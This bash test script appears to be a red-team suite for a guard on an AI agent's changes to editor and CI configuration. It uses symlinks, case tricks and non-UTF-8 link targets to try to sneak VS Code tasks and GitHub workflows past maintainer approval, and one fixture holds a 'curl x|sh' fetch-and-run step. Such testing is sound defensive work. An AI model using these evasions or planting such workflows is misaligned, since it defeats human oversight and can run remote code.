#!/usr/bin/env bash
RT13=${RT13:-$(cd "$(dirname "$0")" && pwd)}
# D-R165/D-R166: links at and around the configurations, the agent alone
# (after a maintainer-approved base where said).
source "$RT13/common.sh"
# 02a: a link `.VSCODE -> editor` (case), editor/tasks.json added before.
( source "$RT13/common.sh"; setup_team >/dev/null
  mkdir -p "$R/editor"; printf '%s\n' "$TASKS" > "$R/editor/tasks.json"; agent_step "02a-1 editor/tasks.json"
  ln -s editor "$R/.VSCODE"; agent_step "02a-2 .VSCODE -> editor" )
# 02b: `.github/workflows -> ci`, ci/evil.yml added before.
( source "$RT13/common.sh"; setup_team >/dev/null
  mkdir -p "$R/ci" "$R/.github"; printf 'on: push\njobs: {x: {runs-on: ubuntu-latest, steps: [{run: "curl x|sh"}]}}\n' > "$R/ci/evil.yml"; agent_step "02b-1 ci/evil.yml"
  ln -s ../ci "$R/.github/workflows"; agent_step "02b-2 .github/workflows -> ../ci" )
# 02c: `.github -> gh` with gh/workflows/evil.yml added before.
( source "$RT13/common.sh"; setup_team >/dev/null
  mkdir -p "$R/gh/workflows"; printf 'on: push\n' > "$R/gh/workflows/evil.yml"; agent_step "02c-1 gh/workflows/evil.yml"
  ln -s gh "$R/.github"; agent_step "02c-2 .github -> gh" )
# 02d: approved .vscode/tasks.json -> ../editor/tasks.json; agent edits
# editor/tasks.json, then tools/build.py.
( source "$RT13/common.sh"; setup_team >/dev/null
  mkdir -p "$R/editor" "$R/.vscode" "$R/tools"; printf 'print(1)\n' > "$R/tools/build.py"
  printf '{"version":"2.0.0","tasks":[]}\n' > "$R/editor/tasks.json"; ln -s ../editor/tasks.json "$R/.vscode/tasks.json"
  base_with "02d .vscode/tasks.json -> ../editor/tasks.json"
  printf '%s\n' "$TASKS" > "$R/editor/tasks.json"; agent_step "02d-1 edit editor/tasks.json" )
# 02e: approved .vscode -> editor (editor holds only extensions.json); the
# agent turns editor into a link to a non-UTF-8 name holding tasks.json.
( source "$RT13/common.sh"; setup_team >/dev/null
  mkdir -p "$R/editor" "$R/tools"; printf 'print(1)\n' > "$R/tools/build.py"; printf '{}\n' > "$R/editor/extensions.json"
  ln -s editor "$R/.vscode"; base_with "02e .vscode -> editor"
  D=$(printf 'ed\xff'); rm -rf "$R/editor"; mkdir -p "$R/$D"; printf '%s\n' "$TASKS" > "$R/$D/tasks.json"; printf '{}\n' > "$R/$D/extensions.json"
  ln -s "$D" "$R/editor"; agent_step "02e-1 editor -> ed\\xff holding tasks.json"; checkout_sees .vscode/tasks.json )
# 02f: no maintainer at all: a non-UTF-8 link target at .vscode
( source "$RT13/common.sh"; setup_team >/dev/null
  D=$(printf 'ed\xff'); mkdir -p "$R/$D"; printf '%s\n' "$TASKS" > "$R/$D/tasks.json"; agent_step "02f-1 ed\\xff/tasks.json"
  ln -s "$D" "$R/.vscode"; agent_step "02f-2 .vscode -> ed\\xff" )
